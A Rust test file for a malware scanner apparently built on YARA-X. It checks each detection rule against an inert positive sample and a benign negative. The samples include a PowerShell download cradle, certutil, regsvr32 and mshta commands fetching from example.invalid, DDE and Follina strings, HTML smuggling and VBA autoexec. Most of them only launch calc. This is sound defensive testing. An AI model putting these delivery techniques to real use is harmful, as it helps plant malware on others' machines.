//! Each shipped rule against a positive and a negative sample generated here.
//! No live malware: the samples are inert look-alikes and EICAR.

#[path = "../examples/samples/mod.rs"]
mod samples;

use ecluse_scanner::Engine;
use samples::*;

fn matches(data: &[u8]) -> Vec<String> {
    let engine = Engine::builtin();
    let mut scanner = yara_x::Scanner::new(engine.yara_rules());
    let results = scanner.scan(data).unwrap();
    results
        .matching_rules()
        .map(|r| r.identifier().to_string())
        .collect()
}

fn check(rule: &str, positive: &[u8], negative: &[u8]) {
    assert!(
        matches(positive).iter().any(|r| r == rule),
        "{rule} misses its positive sample"
    );
    assert!(
        !matches(negative).iter().any(|r| r == rule),
        "{rule} fires on its negative sample"
    );
}

#[test]
fn eicar() {
    let mut almost = samples::eicar();
    almost[10] = b'#';
    check("EICAR_Test_File", &samples::eicar(), &almost);
}

#[test]
fn office_macro_autoexec() {
    let innocent = ole(
        None,
        &[
            ("/VBA/_VBA_PROJECT", b"_VBA_PROJECT"),
            (
                "/VBA/Module1",
                b"Attribute VB_Name = \"Module1\"\r\nSub Total()\r\nEnd Sub",
            ),
        ],
    );
    check(
        "Office_Macro_AutoExec_Shell",
        &ole_doc_with_macros(),
        &innocent,
    );
}

#[test]
fn pe_in_document() {
    let mut doc = b"%PDF-1.7\n".to_vec();
    doc.extend_from_slice(&[0u8; 300]);
    doc.extend_from_slice(&pe());
    check("PE_Embedded_In_Document", &doc, &pe());
    check(
        "PE_Embedded_In_Document",
        &doc,
        b"%PDF-1.7 This program cannot be run in DOS mode, says the manual",
    );
}

#[test]
fn html_smuggling() {
    let smuggler = b"<script>var b = new Blob([atob(d)]); a.href = URL.createObjectURL(b); a.download = 'x.zip';</script>";
    let page = b"<script>var img = atob(logo); document.title = 'Bonjour';</script>";
    check("HTML_Smuggling_Blob_Download", smuggler, page);
    let ie = b"<script>var d = atob(p); navigator.msSaveOrOpenBlob(new Blob([d]), 'facture.zip');</script>";
    check(
        "HTML_Smuggling_Blob_Download",
        ie,
        b"<script>navigator.msSaveOrOpenBlob(report, 'rapport.csv');</script>",
    );
}

#[test]
fn pdf_active() {
    let js = pdf(
        "/OpenAction 5 0 R",
        &["5 0 obj << /S /JavaScript /JS (x) >> endobj\n".into()],
    );
    check("PDF_OpenAction_JavaScript", &js, &pdf("", &[]));
    let launch = pdf(
        "/OpenAction 5 0 R",
        &["5 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj\n".into()],
    );
    check("PDF_Launch_Action", &launch, &js);
}

#[test]
fn lnk_interpreter() {
    check(
        "LNK_Runs_Interpreter",
        &lnk("C:\\Windows\\System32\\cmd.exe /c calc"),
        &lnk("C:\\Users\\agent\\Documents\\rapport.docx"),
    );
}

#[test]
fn wsh_downloader() {
    let vbs = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"";
    check(
        "WSH_Downloader_Or_Runner",
        vbs,
        b"' WScript.Shell is documented here",
    );
    // Office VBA is the macro rule's business.
    assert!(
        !matches(&ole_doc_with_macros())
            .iter()
            .any(|r| r == "WSH_Downloader_Or_Runner")
    );
}

#[test]
fn office_exploits() {
    check(
        "Office_DDE_Command",
        br#"<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText>"#,
        br#"<w:instrText>DDEAUTO is explained in the manual</w:instrText>"#,
    );
    check(
        "Office_Follina_MSDT",
        b"window.location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x\"",
        b"See the ms-msdt: documentation for support tools.",
    );
    check(
        "RTF_Equation_Editor_Object",
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}\\objdata 0105000002000000}}",
        b"{\\rtf1 Equation.3 is an old editor.}",
    );
    check(
        "RTF_Autoupdating_Object",
        b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
        b"{\\rtf1{\\object{\\*\\objdata 0105}}}",
    );
    check(
        "Excel4_Macro_Sheet_Exec",
        b"PK xl/macrosheets/sheet1.xml <c><f>EXEC(\"calc.exe\")</f></c>",
        b"PK xl/worksheets/sheet1.xml <c><f>SUM(A1:A3)</f></c>",
    );
}

#[test]
fn powershell() {
    check(
        "PowerShell_Encoded_Command",
        b"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        b"powershell.exe -File C:\\scripts\\sauvegarde.ps1",
    );
    check(
        "PowerShell_Download_Cradle",
        b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')",
        b"Invoke-WebRequest -Uri https://www.ville-exemple.fr -OutFile page.html",
    );
}

#[test]
fn lolbins() {
    check(
        "LOLBin_Download_Or_Execute",
        b"certutil -urlcache -split -f http://example.invalid/a.exe a.exe",
        b"certutil -hashfile rapport.pdf SHA256",
    );
    check(
        "LOLBin_Download_Or_Execute",
        b"regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll",
        b"regsvr32 /s monpilote.dll",
    );
    check(
        "LOLBin_Download_Or_Execute",
        b"mshta https://example.invalid/a.hta",
        b"mshta is a Windows program",
    );
}

#[test]
fn javascript() {
    check("JS_Packed_Eval", b"eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))", b"function sum(a, b) { return a + b; }");
    check(
        "JScript_ActiveX_Shell",
        b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
        b"var x = new XMLHttpRequest();",
    );
    let hex: String = (0..80)
        .map(|i| format!("\\x{:02x}", 0x41 + i % 26))
        .collect();
    let positive = format!("var p = \"{hex}\"; eval(p);");
    let negative = format!("var p = \"{hex}\"; console.log(p.length);");
    check(
        "JS_Hex_Escaped_Eval",
        positive.as_bytes(),
        negative.as_bytes(),
    );
}

#[test]
fn onenote_and_svg() {
    let mut one = onenote();
    one.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    let clean = one.clone();
    one.extend_from_slice(b"@echo off\r\nstart calc\r\n");
    check("OneNote_Embedded_Script_Or_Program", &one, &clean);
    let payload = "A".repeat(500);
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var d = atob('{payload}');</script></svg>"
    );
    let plain = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/png;base64,{payload}\"/></svg>"
    );
    check(
        "SVG_Base64_Payload_Script",
        svg.as_bytes(),
        plain.as_bytes(),
    );
}

#[test]
fn hta_and_vba() {
    check(
        "HTA_Script_Shell",
        b"<HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell')</script>",
        b"<HTA:APPLICATION/><body>Bonjour</body>",
    );
    let chrs: String = (0..10).map(|i| format!("Chr({}) & ", 99 + i)).collect();
    let obf = format!("Sub AutoOpen()\r\nx = {chrs}\"\"\r\nShell x\r\nEnd Sub");
    check(
        "VBA_String_Obfuscation",
        obf.as_bytes(),
        b"Sub Total()\r\nx = Chr(65) & \"B\"\r\nEnd Sub",
    );
}
